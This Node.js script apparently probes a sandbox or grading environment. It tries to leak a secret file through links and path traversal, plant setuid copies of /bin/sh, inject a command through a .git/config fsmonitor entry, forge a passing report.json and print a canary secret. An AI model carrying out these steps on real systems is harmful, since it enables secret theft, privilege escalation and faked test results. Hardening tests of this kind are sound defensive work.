const fs = require("node:fs");
const net = require("node:net");
const { execFileSync } = require("node:child_process");

const attempt = (name, act) => { try { act(); } catch (error) { console.log(`could not ${name}: ${error.code}`); } };
attempt("link", () => {
  fs.symlinkSync("@SECRET@", "leak.txt");
  fs.symlinkSync("../../other/room/mine", "above");
  fs.symlinkSync("/etc", "etc");
  fs.symlinkSync("loop", "loop");
});
attempt("name twice", () => { fs.writeFileSync("twins-1", "x"); fs.linkSync("twins-1", "twins-2"); });
attempt("pipe", () => execFileSync("mkfifo", ["pipe"]));
attempt("setuid", () => {
  for (const [name, mode] of [["setuid", 0o4755], ["setgid", 0o2755]]) { fs.copyFileSync("/bin/sh", name); fs.chmodSync(name, mode); }
});
attempt("device", () => {
  try { execFileSync("mknod", ["device", "c", "1", "3"], { stdio: "ignore" }); console.log("made it: device"); } catch {}
});
attempt("name", () => {
  for (const name of ["new\nline", "photo\u202egpj.exe", "nul.txt", "com1", "a:b", "back\\slash", "readme.md", "edge ", "dot."]) fs.writeFileSync(name, "x");
  fs.writeFileSync("x".repeat(255), "x");
});
attempt("nest", () => fs.mkdirSync("deep/" + "d/".repeat(40), { recursive: true }));
attempt("forge", () => {
  for (const name of [".git/hooks", "artifacts", "out"]) fs.mkdirSync(name, { recursive: true });
  fs.writeFileSync(".git/config", "[core]\n\tfsmonitor = touch /tmp/owned\n");
  fs.writeFileSync("report.json", '{"verdict": "passed"}');
});
for (const place of ["../report.json", "../../out/report.json", "/work/../report.json", "@SECRET@", "/proc/1/root/work/../x"]) {
  try { fs.writeFileSync(place, "forged"); console.log("made it:", place); } catch {}
  try { console.log(fs.readFileSync(place, "utf8")); } catch {}
}
try { fs.linkSync("@SECRET@", "hard"); console.log("made it: link"); } catch {}
console.log(process.env.CANARY_SECRET ?? "");
const server = net.createServer().listen("local", () => process.exit(0));
